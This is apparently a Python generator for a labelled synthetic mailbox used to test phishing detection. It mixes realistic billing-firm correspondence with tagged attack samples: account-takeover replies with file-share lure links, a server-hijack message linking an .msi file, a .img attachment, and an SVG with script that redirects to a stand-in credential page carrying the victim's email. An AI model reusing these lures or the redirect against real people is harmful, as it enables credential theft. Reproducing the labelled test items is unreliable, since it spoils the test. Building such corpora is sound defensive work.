fw_quote = ("\n\nFrom: Provider Remittance <remittance@prairiestatehp.example>\nSent: Monday, March 3, 2025 7:40 AM\nTo: Marcus Bell <mbell@lakeshorepeds.example>\n"
            "Subject: Recoupment detail - TIN ending 4471 - Feb 2025\n\nDear Provider,\n\nAttached is the recoupment detail for February 2025 for TIN ending 4471. "
            "Offsets were applied to EFT 40021877 dated 02/28/2025.\nQuestions may be directed to Provider Services at 1-800-555-0110, option 4.\n\n"
            "Prairie State Health Plan - Provider Remittance\nThis message may contain confidential information.")
emit(marcus, "o365", at(2025, 3, 5, 8, 22, CHI), [(me.name, me.email)], None, "FW: Recoupment detail - TIN ending 4471 - Feb 2025", [],
     fw_text + marcus.sig + fw_quote, text=fw_text + marcus.sig,
     qrows=[("From", "Provider Remittance <remittance@prairiestatehp.example>"), ("Sent", "Monday, March 3, 2025 7:40 AM"),
            ("To", "Marcus Bell <mbell@lakeshorepeds.example>"), ("Subject", "Recoupment detail - TIN ending 4471 - Feb 2025")],
     qbody=fw_quote.split("\n\n", 2)[2],
     atts=[("PSHP_Recoupment_Feb2025_TIN4471.xlsx", xlsx([["Claim", "DOS", "Orig Paid", "Offset"], ["25A0113387", "2024-11-04", 212.5, -212.5],
                                                          ["25A0119021", "2024-12-02", 96.0, -48.0]]), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")],
     label=GO, sc="G06", desc="Marcus 'FW:' of a payer's remittance mail with the payer's original .xlsx; forwarded parent not in the mailbox, no In-Reply-To")

# ================================================================ T4 Cedar Ridge: monthly billing report (Google Workspace web, Denver, DST inside)
t4 = Thread(priya, "Cedar Ridge monthly billing report + AR aging")
t4.add(me, "Hi Priya,\n\nDecember's billing report and the AR aging are attached. Two things stand out: Medicare secondary claims over 90 days went "
       "from 31 to 47, and the Cigna denials for modifier 25 are back.", at(2025, 1, 14, 10, 5, NY),
       atts=[("CedarRidge_Dec2024_billing_report.pdf", pdf(["Cedar Ridge Family Medicine", "Billing report - December 2024", "Charges $412,880.00",
                                                           "AR > 90 days: 14.2%"]), "application/pdf")])
t4.add(priya, "Thanks Dana. The secondary claims jump is probably the crossover glitch with our clearinghouse in November, they told us it was fixed "
       "Dec 10. Can you get me a list of the 47 with DOS?", at(2025, 1, 14, 13, 41, DEN), G, sc="G07", desc="Priya (Google Workspace web, MST) replies")
t4.add(me, "List attached, sorted by date of service. 39 of the 47 are from November, so your clearinghouse theory fits.", at(2025, 1, 15, 9, 20, NY),
       atts=[("CRFM_secondary_over90.xlsx", xlsx([["Patient acct", "DOS", "Primary paid", "Secondary"], ["CR-118220", "2024-11-06", 88.4, "pending"]]),
              "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")])
t4.add(priya, "Hi Dana,\n\nJanuary numbers when you have them - and one request: could the report split out telehealth visits going forward? "
       "Our board is asking whether the 95 modifier claims are paying at parity.", at(2025, 2, 3, 8, 52, DEN))
t4_old = t4.last
t4.add(me, "Sure, we can add a telehealth section starting with January. I'll include POS 02 vs POS 10 and paid-to-allowed by payer.", at(2025, 2, 4, 11, 15, NY))
t4.add(priya, "That's exactly what they want. Thank you!", at(2025, 2, 4, 12, 3, DEN))
t4.add(me, "Hi Priya,\n\nFebruary report attached, with the new telehealth page (page 4). Parity looks fine for everyone except one Medicaid MCO, "
       "which is paying POS 10 at the facility rate.", at(2025, 3, 7, 15, 40, NY),
       atts=[("CedarRidge_Feb2025_billing_report.pdf", pdf(["Cedar Ridge Family Medicine", "Billing report - February 2025", "Telehealth parity - page 4"]), "application/pdf")])
t4.add(priya, "Oh interesting. Which MCO? If it's the one I think, they changed their fee schedule in January and we never got the notice. "
       "I'll call our rep Monday.", at(2025, 3, 10, 9, 12, DEN), GH,
       sc="G08", desc="Priya replies after the US DST switch (Date -0600 instead of -0700 earlier in the thread)")
t4.add(me, "It's Rocky Mountain Care. A few questions before the board meeting so I can finalize the March deck:\n\n1. Do you want the parity "
       "comparison by provider or by location?\n2. Should we exclude the two locum providers?\n3. Is the board meeting still March 20?", at(2025, 3, 10, 13, 30, NY))
blue_plain = ("Hi Dana, see my answers in blue below.\n\nPriya\n\n"
              "On Mon, Mar 10, 2025 at 11:30" + NNBSP + "AM Dana Whitfield <dana.whitfield@brightwaterba.example> wrote:\n\n"
              "> It's Rocky Mountain Care. A few questions before the board meeting so I can finalize the March deck:\n>\n"
              "> 1. Do you want the parity comparison by provider or by location?\nBy location please - the board doesn't like seeing individual names.\n\n"
              "> 2. Should we exclude the two locum providers?\nYes, exclude them. Dr. Haines leaves in April anyway.\n\n"
              "> 3. Is the board meeting still March 20?\nMoved to March 27, so you have an extra week.\n")
blue_html = ('<div dir="ltr">Hi Dana, see my answers in <span style="color:rgb(17,85,204)">blue</span> below.<div><br></div><div>Priya</div></div><br>'
             '<div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">On Mon, Mar 10, 2025 at 11:30' + NNBSP + 'AM Dana Whitfield &lt;'
             '<a href="mailto:dana.whitfield@brightwaterba.example">dana.whitfield@brightwaterba.example</a>&gt; wrote:<br></div><blockquote class="gmail_quote" '
             'style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">It\'s Rocky Mountain Care. A few questions before the board '
             'meeting so I can finalize the March deck:<br><br>1. Do you want the parity comparison by provider or by location?<br>'
             '<span style="color:rgb(17,85,204)"><b>By location please - the board doesn\'t like seeing individual names.</b></span><br><br>'
             '2. Should we exclude the two locum providers?<br><span style="color:rgb(17,85,204)"><b>Yes, exclude them. Dr. Haines leaves in April anyway.</b></span><br><br>'
             '3. Is the board meeting still March 20?<br><span style="color:rgb(17,85,204)"><b>Moved to March 27, so you have an extra week.</b></span></blockquote></div>')
t4.add(priya, "", at(2025, 3, 10, 16, 2, DEN), GH, sig=False, quote=False, html=blue_html,
       sc="G09", desc="Priya's inline-edited reply ('answers in blue below'), trimmed quote with answers interleaved, HTML blue")
t4.recs[-1]["own"] = t4.recs[-1]["full"] = blue_plain
# fix up the plain text of the inline reply (emit used the empty text): patch the pending entry
_t, _f, _raw, *_rest = pending[-1]
_raw = _raw.replace('Content-Type: text/plain; charset="UTF-8"\r\n\r\n\r\n', 'Content-Type: text/plain; charset="UTF-8"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n'
                    + quopri.encodestring(blue_plain.encode()).decode().replace("\n", "\r\n") + "\r\n", 1)
pending[-1] = (_t, _f, _raw, *_rest)
t4.add(me, "Perfect, thanks Priya. By-location it is; I'll have the deck to you by the 21st.", at(2025, 3, 11, 8, 45, NY))
# A02 account takeover: October, reply to the February message, sent by a script through smtp.gmail.com
a2_link = f"https://www.dropbox.com/scl/fi/{alnum(25).lower()}/CRFM_Telehealth_Parity_Q3.zip?rlkey={alnum(25).lower()}&st={alnum(8).lower()}&dl=1"
a2_text = ("Dana,\n\nFollowing up on the telehealth numbers for the board. I put the Q3 parity workbook and the payer letters in one file since it got "
           "too big for email:\n\n" + a2_link + "\n\nLet me know once you've had a look, I'd like your read on it before Thursday.\n\nPriya")
a2_q = ("\n\nOn Mon, Feb 3, 2025 at 8:52 AM Priya Raman <priya.raman@cedarridgefm.example> wrote:\n" + gt(t4_old["own"]))
emit(priya, "script", at(2025, 10, 21, 6, 17, NY), [(me.name, me.email)], None, "RE: " + t4.subj, t4.refs[:4], a2_text + a2_q,
     html=('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body><p>Dana,</p><p>Following up on the telehealth numbers '
           'for the board. I put the Q3 parity workbook and the payer letters in one file since it got too big for email:</p>'
           f'<p><a href="{H.escape(a2_link)}">CRFM_Telehealth_Parity_Q3.zip</a></p><p>Let me know once you\'ve had a look, I\'d like your read on it before Thursday.</p>'
           '<p>Priya</p><blockquote>' + esc_br(t4_old["own"]) + "</blockquote></body></html>"),
     infra="atk-priya-smtp", mid=f"<{hx(20)}$" + f"{hx(8)}@cedarridgefm.example>".replace("$", ""),
     extra=[("X-Priority", "3")], label=HJ("account-takeover"), sc="A02",
     desc="ATO: Priya's account used over SMTP AUTH from a VPS (no Gmail web fingerprint, 'RE:' Outlook-style prefix, Date -0400), replies to the Feb message 8 months later, Dropbox .zip link")

# ================================================================ T5 Cedar Ridge: services agreement renewal, Adobe Acrobat Sign
t5 = Thread(priya, "Brightwater services agreement - 2025 renewal")
t5.add(me, "Hi Priya,\n\nOur agreement with Cedar Ridge renews June 1. Kevin approved keeping the rate at 5.4% of collections for another year, "
       "with the telehealth reporting added to the scope. Shall I send the renewal over?", at(2025, 5, 19, 10, 30, NY))
t5.add(priya, "Yes please! Our office now routes all contracts through Adobe Sign, so it'll come back to you from there once Dr. Olmstead signs.",
       at(2025, 5, 19, 12, 8, DEN), G, sc="G11", desc="Priya replies, announces Adobe Acrobat Sign")
t5.add(me, "Renewal attached.", at(2025, 5, 19, 14, 2, NY),
       atts=[("Brightwater_CRFM_Renewal_2025.pdf", pdf(["Services Agreement Renewal", "Brightwater Billing & Accounting, LLC - Cedar Ridge Family Medicine",
                                                       "Term: June 1, 2025 - May 31, 2026"]), "application/pdf")])
as_link = f"https://na1.documents.adobe.com/public/esign?tsid={alnum(40)}&pid={alnum(10)}"
as_plain = (f"Cedar Ridge Family Medicine has sent you Brightwater_CRFM_Renewal_2025 to sign.\n\nReview and sign: {as_link}\n\n"
            "Message from Priya Raman:\nDana - signed by Dr. Olmstead, your countersignature is the last one. Thanks!\n\n"
            "After you sign Brightwater_CRFM_Renewal_2025, the agreement will be sent to all parties.\n\nPowered by Adobe Acrobat Sign\n"
            "To ensure that you continue receiving our emails, please add adobesign@adobesign.com to your address book or safe list.")
as_who = Pt("Priya Raman via Adobe Acrobat Sign", "adobesign@adobesign.com", "vendor", "adobesign", DEN)
emit(as_who, "vendor", at(2025, 5, 21, 15, 44, DEN), [(me.name, me.email)], None, "Signature requested on \"Brightwater_CRFM_Renewal_2025\"", [], as_plain,
     html='<html><body style="font-family:adobe-clean,Helvetica,Arial,sans-serif"><p>Cedar Ridge Family Medicine has sent you <b>Brightwater_CRFM_Renewal_2025</b> to sign.</p>'
          f'<p><a href="{H.escape(as_link)}" style="background:#1473e6;color:#fff;padding:10px 20px;border-radius:16px;text-decoration:none">Review and sign</a></p>'
          "<p><b>Message from Priya Raman:</b><br>Dana - signed by Dr. Olmstead, your countersignature is the last one. Thanks!</p></body></html>",
     extra=[("Reply-To", addr(priya.name, priya.email)), ("X-Adobe-Sign-Agreement-Id", "CBJCHBCAABAA" + alnum(30))],
     mid=f"<{R.randint(10**8, 10**9)}.{R.randint(10**6, 10**7)}.{int(datetime.datetime(2025, 5, 21, tzinfo=UTC).timestamp() * 1000)}@adobesign.com>",
     label=GH, sc="G10", desc="Adobe Acrobat Sign request for the renewal, announced by Priya in the thread (no In-Reply-To, Reply-To Priya)")
t5.add(me, "Countersigned - thank you Priya, and please thank Dr. Olmstead.", at(2025, 5, 22, 9, 10, NY))

# ================================================================ T6 Kowalski: toner and paper order; A01 server hijack (.msi link)
t6 = Thread(tom, "Toner and paper order - March")
t6.add(me, "Hi Tom,\n\nPlease send the usual: 6 cases of 8.5x11 copy paper, 2 HP 147X toners for the front MFP, and 4 boxes of #10 window envelopes. "
       "Delivery to suite 210 any morning this week works.", at(2025, 3, 17, 9, 5, NY))
t6.add(tom, "Morning Dana,\n\nAll in stock except the window envelopes, those are backordered until Thursday. I can send everything Wednesday "
       "and the envelopes on their own Friday, no extra delivery charge.", at(2025, 3, 17, 10, 22, NY), G, sc="G12", desc="Tom (Roundcube/cPanel) confirms the order")
t6.add(me, "Split delivery is fine, thanks Tom.", at(2025, 3, 17, 10, 40, NY))
t6.add(tom, "Wednesday delivery done - signed for by Luis at the front desk. Invoice 30418 will come with the envelopes Friday.", at(2025, 3, 19, 12, 5, NY))
t6.add(me, "Thanks! Envelopes arrived this morning, all good.", at(2025, 3, 21, 11, 14, NY))
a1_url = f"https://www.hillcrest-dentalcare.example/wp-content/uploads/2025/05/Kowalski_Toner_Order_{R.randint(30420, 30499)}.msi"
t6.add(tom, f"Dana,\n\nthe paper and toner order from March - updated invoice and delivery slip are here:\n{a1_url}\n\nTom", at(2025, 6, 3, 7, 52, NY),
       HJ("server-hijack"), sig=False, sc="A01",
       desc="server hijack: Tom's real cPanel/Exim/Roundcube path and DKIM, short text reusing the thread's subject words, link to an .msi on a compromised WordPress site")

# ================================================================ T7 Kowalski: statement of account; Beth left, Alyssa; NDR
t7 = Thread(tom, "Statement of account - Brightwater")
t7.add(tom, "Hi Dana,\n\nTwo quick things. Beth retired at the end of June (she says hi), and Alyssa Grant has taken over our receivables - "
       "alyssa@kowalskioffice.example. Please update your vendor contact.\n\nAlso, our statement shows invoice 30877 from May still open. Could you check?",
       at(2025, 7, 1, 9, 40, NY))
t7.add(me, "Hi Tom,\n\nCongratulations to Beth! I'll update our vendor file. I'll look into 30877 today.", at(2025, 7, 1, 11, 2, NY))
t7_prev = t7.last
t7.add(me, "Hi Beth,\n\nWe show invoice 30877 ($642.18) paid by check 10473 on June 12. Could you confirm whether it cleared on your side?",
       at(2025, 7, 2, 9, 15, NY), to=[beth])
bad = t7.last
ndr_who = Pt("Microsoft Outlook", f"MicrosoftExchange329e71ec88ae4615bbc36ab6ce41109e@{OWN}", "o365", "internal", NY, host="SA1PR05MB8123.namprd05")
nb = f"_{hx(8)}-{hx(4)}-{hx(4)}-{hx(4)}-{hx(12)}_"
ndr_t = at(2025, 7, 2, 9, 15, NY) + datetime.timedelta(seconds=40)
orig_hdrs = (f"From: Dana Whitfield <{me.email}>\nTo: Beth Lyle <{beth[1]}>\nSubject: RE: {t7.subj}\nDate: {fdate(bad['t'].astimezone(UTC))}\n"
             f"Message-ID: {bad['mid']}\nIn-Reply-To: {t7.refs[-2]}\nReferences: {t7.refs[-3]} {t7.refs[-2]}\nMIME-Version: 1.0\nContent-Type: text/plain")
ndr_body = [f'Content-Type: multipart/report; report-type=delivery-status;\n\tboundary="{nb}"', "", f"--{nb}", 'Content-Type: text/plain; charset="us-ascii"',
            "Content-Transfer-Encoding: quoted-printable", "",
            quopri.encodestring((f"Your message to beth@kowalskioffice.example couldn't be delivered.\n\nbeth wasn't found at kowalskioffice.example.\n\n"
                                 f"dana.whitfield    Office 365    beth\nAction Required                 Recipient\n\nUnknown To address\n\n"
                                 f"How to Fix It\nThe address may be misspelled or may not exist. Try one or more of the following:\n"
                                 f"- Retype the recipient's address, then resend the message.\n\nDiagnostic information for administrators:\n\n"
                                 f"Generating server: {MBX.split('.')[0]}.namprd05.prod.outlook.com\n\nbeth@kowalskioffice.example\n"
                                 f"Remote server returned '550 5.1.1 No such user here'\n\nOriginal message headers:\n\n" + orig_hdrs).encode()).decode(), "",
            f"--{nb}", "Content-Type: message/delivery-status", "", f"Reporting-MTA: dns;{MBX}", f"Received-From-MTA: dns;{MBX}",
            f"Arrival-Date: {fdate(bad['t'].astimezone(UTC))}", "", f"Final-Recipient: rfc822;{beth[1]}", "Action: failed", "Status: 5.1.1",
            "Diagnostic-Code: smtp;550 5.1.1 No such user here", f"Remote-MTA: dns;{INFRA['cpanel-kowalski'][0]}", "", f"--{nb}",
            "Content-Type: text/rfc822-headers", "", orig_hdrs, "", f"--{nb}--", ""]
emit(ndr_who, "internal", ndr_t, [(me.name, me.email)], None, f"Undeliverable: RE: {t7.subj}", [bad["mid"]], "", body_override=ndr_body,
     topic=t7.subj, extra=[("Auto-Submitted", "auto-replied"), ("X-MS-Exchange-Message-Is-Ndr", ""), ("X-MS-Exchange-Organization-SCL", "-1")],
     label=GH, sc="G13", desc="Exchange Online NDR (multipart/report delivery-status, 550 5.1.1) for Dana's message to the departed clerk, refers to her message",
     mid=f"<{ruuid()}@{MBX.split('.')[0]}.namprd05.prod.outlook.com>")
t7.refs.pop(); t7.recs.pop(); t7.last = t7_prev
t7.add(me, "Hi Alyssa,\n\nTom mentioned you've taken over receivables - welcome! We show invoice 30877 ($642.18) paid by check 10473 on June 12. "
       "Could you confirm whether it cleared?", at(2025, 7, 2, 9, 31, NY), to=[(alyssa.name, alyssa.email)], cc=[(tom.name, tom.email)])
t7.add(alyssa, "Hi Dana,\n\nThanks for the welcome! Found it - check 10473 was deposited June 16 but got applied to the wrong customer account "
       "(Brightwater Dental, ha). I moved it over, so 30877 is closed and your statement should be at zero. Sorry about the confusion.",
       at(2025, 7, 2, 13, 48, NY), GH, cc=[(tom.name, tom.email)],
       sc="G14", desc="Alyssa Grant (new AR clerk, announced by Tom earlier in the thread) replies from the same Roundcube/cPanel server")
t7.add(me, "That explains it. Thanks for sorting it out so quickly, Alyssa.", at(2025, 7, 2, 14, 5, NY), to=[(alyssa.name, alyssa.email)])
t7.add(alyssa, "You're welcome! Updated statement attached for your records.", at(2025, 7, 3, 8, 50, NY), G,
       atts=[("Statement_Brightwater_2025-07-03.pdf", pdf(["Kowalski Office Supply", "Statement of account - Brightwater Billing & Accounting",
                                                          "Balance due: $0.00"], producer="QuickBooks Desktop"), "application/pdf")],
       sc="G14b", desc="Alyssa sends the updated statement PDF")

# ================================================================ T8 Pennant (Outlook for Mac, London): denial trends pack; Teams; Kiteworks; A03 ATO via OWA
t8 = Thread(gavin, "Q1 denial trends pack - Brightwater clients")
t8.add(gavin, "Hi Dana,\n\nAs promised on Tuesday's call, the Q1 denial trends pack for your four client groups is attached. Headline: CO-197 "
       "(precert absent) is now the top reason for Lakeshore, overtaking CO-16 for the first time.\n\nHappy to walk your team through it.",
       at(2025, 4, 29, 14, 20, LON),
       atts=[("Pennant_Q1_2025_Denial_Trends_Brightwater.pdf", pdf(["Pennant Health Analytics", "Q1 2025 denial trends", "Brightwater client groups (4)"],
                                                                  producer="Microsoft® PowerPoint® for Mac", zone="+01'00'"), "application/pdf")])
t8.add(me, "Thanks Gavin, this is really useful. A walkthrough would be great - could we do next week? Tuesday or Wednesday after 10 am Eastern works for me.",
       at(2025, 4, 29, 10, 48, NY))
t8.add(gavin, "Wednesday suits. I'll send an invite for 3 pm UK time, which should be 10 am for you.", at(2025, 4, 29, 16, 2, LON), G,
       sc="G15", desc="Gavin (Outlook for Mac on M365, en-GB) replies")
t8_may = t8.last
teams_url = f"https://teams.microsoft.com/l/meetup-join/19%3ameeting_{alnum(48)}%40thread.v2/0?context=%7b%22Tid%22%3a%22{ruuid()}%22%2c%22Oid%22%3a%22{ruuid()}%22%7d"
ics_uid = "040000008200E00074C5B7101A82E00800000000" + HX(32)
ics = ("BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nPRODID:Microsoft Exchange Server 2010\r\nVERSION:2.0\r\nBEGIN:VTIMEZONE\r\nTZID:GMT Standard Time\r\n"
       "BEGIN:STANDARD\r\nDTSTART:16010101T020000\r\nTZOFFSETFROM:+0100\r\nTZOFFSETTO:+0000\r\nRRULE:FREQ=YEARLY;INTERVAL=1;BYDAY=-1SU;BYMONTH=10\r\nEND:STANDARD\r\n"
       "BEGIN:DAYLIGHT\r\nDTSTART:16010101T010000\r\nTZOFFSETFROM:+0000\r\nTZOFFSETTO:+0100\r\nRRULE:FREQ=YEARLY;INTERVAL=1;BYDAY=-1SU;BYMONTH=3\r\nEND:DAYLIGHT\r\n"
       f"END:VTIMEZONE\r\nBEGIN:VEVENT\r\nORGANIZER;CN=Gavin Hughes:mailto:{gavin.email}\r\n"
       f"ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=Dana Whitfield:mailto:{me.email}\r\nUID:{ics_uid}\r\n"
       "SUMMARY;LANGUAGE=en-GB:Q1 denial trends - Brightwater walkthrough\r\nDTSTART;TZID=GMT Standard Time:20250507T150000\r\n"
       "DTEND;TZID=GMT Standard Time:20250507T160000\r\nLOCATION;LANGUAGE=en-GB:Microsoft Teams Meeting\r\nDTSTAMP:20250429T151000Z\r\nSEQUENCE:0\r\n"
       f"X-MICROSOFT-SKYPETEAMSMEETINGURL:{teams_url}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
teams_text = ("Walkthrough of the Q1 pack - I'll bring Priyanka from our analytics team.\n\n"
              "________________________________________________________________________________\nMicrosoft Teams meeting\n"
              f"Join on your computer, mobile app or room device\nClick here to join the meeting<{teams_url}>\n"
              f"Meeting ID: {R.randint(200, 499)} {R.randint(100, 999)} {R.randint(100, 999)} {R.randint(100, 999)}\nPasscode: {alnum(6)}\n"
              "Download Teams<https://www.microsoft.com/en-gb/microsoft-teams/download-app> | Join on the web<https://www.microsoft.com/microsoft-teams/join-a-meeting>\n"
              "________________________________________________________________________________")
t8.add(gavin, teams_text, at(2025, 4, 29, 16, 10, LON), GH, sig=False, quote=False, subj="Q1 denial trends - Brightwater walkthrough", calendar=ics,
       sc="G16", desc="Teams meeting request from Gavin's Outlook for Mac (text/calendar, teams.microsoft.com join link) in the thread")
t8.add(me, "Accepted - see you Wednesday.", at(2025, 4, 29, 11, 30, NY))
kw_url = f"https://secure.pennanthealth-files.example/w/{alnum(12)}?p={alnum(16)}"
t8.add(gavin, "Dana,\n\nThanks for your time today. One housekeeping point: from next month we can no longer email client-level claim extracts "
       "(our ISO auditor was very clear on that). We're moving to a Kiteworks portal at secure.pennanthealth-files.example - you'll get a one-time "
       "code by text the first time you log in.", at(2025, 5, 7, 16, 40, LON))
t8.add(me, "Makes sense. Please use my mobile, (614) 555-0177, for the code.", at(2025, 5, 7, 12, 2, NY))
t8.add(gavin, f"Hi Dana,\n\nThe April claim-level extract is now on the portal as discussed:\n{kw_url}\n\nThe link is valid for 14 days; "
       "the code goes to the mobile number you gave me.", at(2025, 5, 20, 9, 15, LON), GH,
       sc="G17", desc="link to Pennant's new Kiteworks portal on a previously unseen domain, which Gavin announced in the thread itself")
t8.add(me, "Downloaded, thank you. The code worked fine.", at(2025, 5, 20, 8, 5, NY))
# A03 ATO: attacker in Gavin's M365 mailbox via OWA at 03:12 London, replies to the April 29 message, link to an unrelated tenant's OneDrive
gav_owa = Pt(gavin.name, gavin.email, "owa", "exo-pennant", UTC, "", clang="en-US", host=gavin.host)
a3_url = f"https://tidewatermarine-my.sharepoint.com/:b:/g/personal/accounts_tidewatermarine_onmicrosoft_com/E{alnum(22)}?e={alnum(6)}"
a3_text = ("Hi Dana,\n\nQuick one on the Q1 pack - we found an error in the CO-197 figures for Lakeshore and re-issued the report. "
           f"The corrected version is on our OneDrive, it needs your work email to open:\n\n{a3_url}\n\nCould you confirm you can access it today?\n\nGavin")
t8.add(gav_owa, a3_text, at(2025, 8, 12, 2, 12, UTC), HJ("account-takeover"), sig=False, qrec=t8_may, refs=t8.refs[:3], client="owa",
       sc="A03", desc="ATO: Gavin's M365 mailbox used via OWA (no Mac Outlook User-Agent, en-US, 03:12 London) replying to a 3-month-old message, link to an unrelated tenant's OneDrive/SharePoint")

# ================================================================ T9 Northfield (Outlook 2016 on Exchange 2016, Toronto): records batches, always zips
t9 = Thread(doug, "Records request batch - Lakeshore referrals")
def scans(tag, n): return zipb([(f"{tag}_{i:03d}.pdf", pdf([f"Northfield Medical Imaging - {tag}", f"Page {i}", "Scanned by RICOH IM C3000"],
                                                          producer="RICOH IM C3000", zone="-05'00'")) for i in range(1, n + 1)])
t9.add(doug, "Hi Dana,\n\nAttached are the imaging reports you requested for the 11 Lakeshore referral patients (January DOS). Zipped as usual "
       "since our system won't send more than 10 attachments.", at(2025, 2, 10, 10, 2, TOR),
       atts=[("NMI_Lakeshore_Jan2025.zip", scans("NMI_LPG_Jan", 11), "application/x-zip-compressed")])
t9.add(me, "Thanks Doug, all 11 received and readable.", at(2025, 2, 10, 11, 20, NY))
t9.add(doug, "Hi Dana,\n\nFebruary batch attached - 8 reports. Two patients had their studies read by the Oakville site, so the letterhead is different.",
       at(2025, 3, 3, 14, 30, TOR), atts=[("NMI_Lakeshore_Feb2025.zip", scans("NMI_LPG_Feb", 8), "application/x-zip-compressed")])
t9.add(me, "Got them, thank you. For March we'll also need the two ultrasound reports for patient LPG-20931 from February 24.", at(2025, 3, 4, 9, 2, NY))
t9.add(doug, "Noted, I'll include them in the March batch.", at(2025, 3, 4, 9, 48, TOR), G, sc="G20a", desc="Doug (Outlook 2016/Exchange 2016) replies")
t9.add(me, "Hi Doug,\n\nChecking on the March batch - Lakeshore's auditors are asking for it by Friday.", at(2025, 4, 2, 9, 30, NY))
ooo_t = at(2025, 4, 2, 9, 30, TOR) + datetime.timedelta(seconds=25)
t9.add(doug, "I am out of the office until Monday, April 7 with limited access to email. For urgent records requests please contact "
       "records@northfieldimaging.example or call 905-555-0133 ext. 200.\n\nThank you,\nDoug Patterson", ooo_t, GH, sig=False, quote=False,
       subj=f"Automatic reply: {t9.subj}", extra=[("Auto-Submitted", "auto-replied"), ("X-Auto-Response-Suppress", "All"),
                                                  ("X-MS-Exchange-Inbox-Rules-Loop", doug.email)],
       sc="G19", desc="Exchange 2016 'Automatic reply' out-of-office (Auto-Submitted: auto-replied), no quote")
ooo_rec = t9.recs.pop(); t9.refs.pop(); t9.last = t9.recs[-1]
t9.add(doug, "Hi Dana,\n\nBack today and catching up - sorry for the wait. The March batch is attached, including both ultrasound reports for LPG-20931.",
       at(2025, 4, 7, 8, 41, TOR), GH, atts=[("NMI_Lakeshore_Mar2025.zip", scans("NMI_LPG_Mar", 9), "application/x-zip-compressed")],
       sc="G18", desc="zip of scanned PDFs from Doug, who always sends zips in this thread; after a DST change (-0400)")
t9.add(me, "Perfect, thanks Doug. Forwarding to Lakeshore now.", at(2025, 4, 7, 10, 5, NY))
t9.add(doug, "You're welcome. April's will be the last batch on this request number; after that Lakeshore has to open a new one.",
       at(2025, 4, 7, 10, 33, TOR), G, sc="G20", desc="Doug plain reply")

# ================================================================ T10 Northfield: imaging invoices; A05 server hijack with .img
t10 = Thread(doug, "NMI invoices - March reading fees")
t10.add(me, "Hi Doug,\n\nWe received NMI invoices 2025-0311 and 2025-0312 for Lakeshore's outsourced reads. The second seems to duplicate three "
        "studies from the first. Could you have billing take a look?", at(2025, 3, 11, 11, 5, NY))
t10.add(doug, "Hi Dana,\n\nYou're right - our billing clerk re-ran the batch after a system restart. 2025-0312 is void; a corrected invoice "
        "will come from accounts@ this week.", at(2025, 3, 11, 15, 22, TOR), G, sc="G21", desc="Doug replies (Exchange 2016, EDT)")
t10.add(me, "Thank you, I'll void it on our side.", at(2025, 3, 11, 15, 40, NY))
img = b"\x00" * 16 + b"CD001" + rbytes(6000)
t10.add(doug, "Dana,\n\nCorrected reading-fee invoices for March are in the attached image file, billing packed them together.\n\nThanks",
        at(2025, 3, 25, 16, 58, TOR), HJ("server-hijack"), sig=False,
        atts=[("NMI_March_Invoices_Corrected.img", img, "application/octet-stream")],
        sc="A05", desc="server hijack of Northfield's Exchange 2016 (same on-prem path, no DKIM, same headers), .img disk image attachment")

# ================================================================ T11 Linda Marsh (Yahoo web, Phoenix): 941 worksheets; A04 SVG
t11 = Thread(linda, "Q1 941 reconciliation worksheets")
t11.add(me, "Hi Linda,\n\nParkside's Q1 payroll register is attached for the 941 tie-out. Total wages I get are $286,410.52; the register shows "
        "$286,398.02, so there's a $12.50 difference somewhere.", at(2025, 4, 8, 10, 0, NY),
        atts=[("Q1_2025_payroll_register.pdf", pdf(["Parkside Payroll Services", "Payroll register Q1 2025", "Brightwater Billing & Accounting, LLC"]), "application/pdf")])
t11.add(linda, "Hi Dana,\nFound your $12.50 - it's a taxable fringe adjustment on the March 28 run that Parkside coded as non-wage. Worksheet attached. "
        "Form 941 line 2 should be $286,410.52, so you were right.", at(2025, 4, 9, 7, 35, PHX), G,
        atts=[("941_Q1_2025_worksheet.pdf", pdf(["941 reconciliation Q1 2025", "Line 2: 286,410.52", "Adj: fringe 12.50"], producer="Microsoft Excel"), "application/pdf")],
        sc="G22", desc="Linda (Yahoo web, Arizona) replies with worksheet")
t11.add(me, "Thank you Linda! I'll ask Jenna to correct the coding for Q2.", at(2025, 4, 9, 11, 12, NY))
t11.add(me, "Hi Linda,\n\nQ2 register attached. No surprises this time, I hope.", at(2025, 7, 9, 9, 45, NY),
        atts=[("Q2_2025_payroll_register.pdf", pdf(["Parkside Payroll Services", "Payroll register Q2 2025"]), "application/pdf")])
t11.add(linda, "Ties to the penny. Q2 worksheet attached - you're all set to file.", at(2025, 7, 10, 8, 2, PHX), G,
        atts=[("941_Q2_2025_worksheet.pdf", pdf(["941 reconciliation Q2 2025", "Ties to register"], producer="Microsoft Excel"), "application/pdf")],
        sc="G22b", desc="Linda replies with Q2 worksheet")
t11.add(me, "Great, thanks as always.", at(2025, 7, 10, 11, 30, NY))
svg = ('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600">\n<rect width="800" height="600" fill="#f3f3f3"/>'
       '<text x="40" y="80" font-family="Segoe UI" font-size="22">Q2 941 Worksheet - secure view</text>\n<script type="text/javascript"><![CDATA[\n'
       f'var d="{b64(600)}";var k="{alnum(8)}";\n/* inert test payload: no decoder */\n'
       f'window.location.href="https://q2-worksheet-view.example/auth/?e="+"{me.email}";\n]]></script>\n</svg>\n')
t11.add(linda, "Hi Dana,\nSmall correction on the Q2 worksheet before you file - line 5a changed. Open the attached in your browser, it's the updated version.\nLinda",
        at(2025, 7, 23, 5, 14, PHX), HJ("account-takeover"), sig=False,
        atts=[("941_Q2_2025_worksheet_rev.svg", svg.encode(), "image/svg+xml")],
        sc="A04", desc="ATO of Linda's Yahoo mailbox (same webmail fingerprint), SVG attachment that redirects to a credential page")

# ================================================================ T12 Mendez IT (Thunderbird/Postfix): scanner driver; A13 altered quote link
t12 = Thread(carlos, "Scanner driver for the new Brother ADS-4700W")
t12.add(me, "Hi Carlos,\n\nThe new Brother scanner arrived. Can I install the driver myself or do you need to do it?", at(2025, 6, 2, 9, 10, NY))
